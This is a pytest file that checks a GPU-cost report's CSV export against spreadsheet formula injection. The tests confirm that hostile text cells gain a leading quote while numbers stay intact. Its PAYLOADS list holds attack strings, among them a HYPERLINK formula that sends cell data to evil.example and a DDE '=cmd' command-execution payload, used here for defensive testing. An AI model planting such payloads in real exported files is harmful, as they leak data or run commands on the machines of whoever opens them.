"""CSV formula injection: a text cell that a spreadsheet would run (``=``, ``+``, ``-``, ``@``, TAB,
CR first) is written after a ``'``; numbers stay numbers. Checked cell by cell, on a sample report
with every text field hostile and on a real report of a fleet whose names are formulas."""

from __future__ import annotations

import csv
import dataclasses
import io
import typing
from pathlib import Path
from typing import Any

import pytest

from analytics import synthetic
from analytics.config import FullSettings
from analytics.pipeline import make_report
from analytics.report import from_json, write
from analytics.report.csvio import TABLES, neutralise, to_csv
from analytics.report.jsonio import LISTS
from analytics.report.model import CostRow, Report
from analytics.sources.embedded import EmbeddedSource
from bench.attacks.reports import HOSTILE_HOSTS, HOSTILE_PARTITION, HOSTILE_USERS, formula_cells, hostile_fleet
from domain.week import Window, iso_week
from tests.support.reports import sample_report

OWASP = ("=", "+", "-", "@", "\t", "\r")  # the test's own list, not the code's
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width =
    "-",
)
ROW_TYPES: dict[str, type[Any]] = {"costs": CostRow, **{t: LISTS[t] for t in TABLES[1:]}}


def _numeric(cls: type[Any]) -> set[str]:
    return {n for n, t in typing.get_type_hints(cls).items() if t in (int, float, float | None)}


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_gets_a_quote_and_keeps_its_text(payload: str) -> None:
    out = neutralise(payload)
    assert out == "'" + payload
    assert not out.startswith(OWASP)


@pytest.mark.parametrize("text", ["alice", "", "'=already quoted", "slurm:4711", "2026-W48", " =space first", "a=b"])
def test_other_text_is_left_alone(text: str) -> None:
    assert neutralise(text) == text


def _hostile(report: Report) -> Report:
    """Every str field of every row a formula payload, every float field negative."""
    n = 0

    def poison(row: Any) -> Any:
        nonlocal n
        changes: dict[str, object] = {}
        for name, hint in typing.get_type_hints(type(row)).items():
            value = getattr(row, name)
            if hint is str:
                changes[name] = PAYLOADS[n % len(PAYLOADS)]
                n += 1
            elif hint in (float, float | None) and value is not None:
                changes[name] = -abs(value) - 0.5
        return dataclasses.replace(row, **changes)

    lists: dict[str, Any] = {attr: [poison(r) for r in getattr(report, attr)] for attr in LISTS}
    return dataclasses.replace(report, fleet=poison(report.fleet), **lists)


def test_every_cell_of_a_hostile_report_is_safe_and_reads_back() -> None:
    original = _hostile(sample_report())
    files = to_csv(original)
    assert set(files) == {f"{t}.csv" for t in TABLES}
    neutralised = negatives = 0
    for table, cls in ROW_TYPES.items():
        rows = _rows(files[f"{table}.csv"])
        head, body = rows[0], rows[1:]
        source = [original.fleet, *original.rows] if table == "costs" else getattr(original, table)
        assert len(body) == len(source), table
        numeric = _numeric(cls)
        for cells, row in zip(body, source, strict=True):
            for name, cell in zip(head, cells, strict=True):
                value = getattr(row, name)
                if cell.startswith(OWASP):  # only a number written from a numeric field
                    assert name in numeric and float(cell) == value, (table, name, cell)
                    negatives += 1
                if isinstance(value, str):
                    assert cell == neutralise(value)
                    if cell != value:  # readable: the same text after the quote
                        assert cell == "'" + value
                        neutralised += 1
    assert neutralised > 50 and negatives > 50  # the test reached both kinds of cell


@pytest.fixture(scope="module")
def hostile_folder(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """A real report (embedded history, the pipeline, the writer) of a fleet whose users, hosts,
    partitions and job ids are formulas."""
    tmp = tmp_path_factory.mktemp("csv")
    week = iso_week("2026-W47")
    both = Window(week.start - 7 * 86400, week.end, week.label, week.timezone)  # and the week before
    fleet = hostile_fleet(synthetic.generate(both, hosts=2, gpus_per_host=1, seed=5))
    synthetic.write_history(fleet, tmp / "history.db")
    settings = FullSettings(analytics={"source": "embedded", "history": tmp / "history.db"})
    report = make_report(EmbeddedSource(tmp / "history.db"), week, settings, now=week.end)
    write(report, ["csv", "json"], tmp / "reports")
    return tmp / "reports" / f"gpuledger-{week.label}-csv", week.label


def test_no_formula_in_any_csv_of_a_real_hostile_report(hostile_folder: tuple[Path, str]) -> None:
    folder, _ = hostile_folder
    files = {p.name: p.read_bytes().decode("utf-8") for p in folder.iterdir()}
    assert set(files) == {f"{t}.csv" for t in TABLES}
    cells = 0
    for name, text in files.items():
        rows = _rows(text)
        cells += sum(map(len, rows))
        assert formula_cells(name, text) == [], name
        numeric = _numeric(ROW_TYPES[name.removesuffix(".csv")])
        for cell, column in ((c, rows[0][i]) for r in rows[1:] for i, c in enumerate(r)):
            assert not cell.startswith(OWASP) or (column in numeric and float(cell) < 0), (name, column, cell)
    assert cells > 500
    costs = list(csv.DictReader(io.StringIO(files["costs.csv"], newline="")))
    users = {r["key"] for r in costs if r["group"] == "user"}
    assert users == {"'" + u for u in HOSTILE_USERS}  # each readable, its own row
    hosts = {r["key"] for r in costs if r["group"] == "host"}
    assert hosts == {"'" + h for h in HOSTILE_HOSTS}
    jobs = {r["key"] for r in costs if r["group"] == "job"}
    assert jobs and all(j.startswith("'") for j in jobs)
    queue = list(csv.DictReader(io.StringIO(files["queue.csv"], newline="")))
    assert "'" + HOSTILE_PARTITION in {q["partition"] for q in queue}


def test_the_json_keeps_the_exact_names(hostile_folder: tuple[Path, str]) -> None:
    folder, label = hostile_folder
    report = from_json((folder.parent / f"gpuledger-{label}.json").read_text(encoding="utf-8"))
    assert {r.key for r in report.group("user")} == set(HOSTILE_USERS)  # CSV neutralises, JSON is the data
